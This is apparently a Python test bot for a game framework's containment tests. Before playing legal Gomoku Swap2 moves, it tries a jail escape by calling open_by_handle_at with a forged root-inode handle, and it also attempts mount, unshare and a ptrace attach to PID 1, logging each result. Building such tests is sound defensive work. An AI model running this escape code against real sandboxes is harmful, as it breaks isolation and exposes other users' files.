"""handle_escape: tries the escape by file handle, then plays legally (no verdict).

name_to_handle_at on a path it can see, then open_by_handle_at: with CAP_DAC_READ_SEARCH that
opens a file by its handle whatever the mounts show, which let a bot running as root write
outside its jail and read another bot's files.  It also tries mount, unshare and ptrace.  It
writes what each call answered to its stderr, kept in the game's log.

A hostile test bot for kothkit's containment tests (gomoku_swap2); it misbehaves on purpose.
"""

import ctypes
import errno
import os
import platform
import re
import sys

NR = {"x86_64": {"name_to_handle_at": 303, "open_by_handle_at": 304, "ptrace": 101, "unshare": 272, "mount": 165},
      "aarch64": {"name_to_handle_at": 264, "open_by_handle_at": 265, "ptrace": 117, "unshare": 97, "mount": 40}}


def legal(line):
    """A legal reply to any Swap2 prompt: a fixed opening, "B" to the choices, the first empty cell."""
    tag, _, rest = line.partition(" ")
    if tag == "A":
        return "(0,0) (2,0) (1,0)"
    if tag in ("B", "C"):
        return "B"
    taken = {(int(x), int(y)) for x, y in re.findall(r"\(\((\d+),(\d+)\)", rest)}
    x, y = next((x, y) for y in range(15) for x in range(15) if (x, y) not in taken)
    return f"({x},{y})"


def reply(text):
    sys.stdout.write(text + "\n")
    sys.stdout.flush()


def answer(r):
    if r >= 0:
        return "allowed"
    return errno.errorcode.get(ctypes.get_errno(), str(ctypes.get_errno()))


def attempts():
    libc = ctypes.CDLL(None, use_errno=True)
    nr = NR.get(platform.machine())
    if nr is None:
        return ["unknown machine"]
    out = []

    class Handle(ctypes.Structure):
        _fields_ = [("bytes", ctypes.c_uint), ("type", ctypes.c_int), ("data", ctypes.c_ubyte * 128)]

    h = Handle(128, 0)
    mount_id = ctypes.c_int()
    r = libc.syscall(nr["name_to_handle_at"], -100, b"/", ctypes.byref(h), ctypes.byref(mount_id), 0)
    out.append(f"name_to_handle_at: {answer(r)}")
    # The root folder's handle (or, if that was refused, a made-up one: ext4's root is inode 2).
    if r < 0:
        h = Handle(8, 1)
        h.data[0] = 2
    fd = libc.syscall(nr["open_by_handle_at"], os.open("/", os.O_RDONLY), ctypes.byref(h), os.O_RDONLY)
    out.append(f"open_by_handle_at: {answer(fd)}")
    if fd >= 0:
        out.append("ESCAPED: " + " ".join(sorted(os.listdir(fd))[:20]))
    out.append(f"mount: {answer(libc.syscall(nr['mount'], b'none', b'/tmp', b'tmpfs', 0, None))}")
    out.append(f"unshare: {answer(libc.syscall(nr['unshare'], 0x10000000))}")
    out.append(f"ptrace: {answer(libc.syscall(nr['ptrace'], 16, 1, 0, 0))}")  # PTRACE_ATTACH to the init
    return out


sys.stderr.write("\n".join(attempts()) + "\n")
sys.stderr.flush()

for raw in iter(sys.stdin.readline, ""):
    line = raw.strip()
    if line.startswith("EXIT"):
        break
    reply(legal(line))
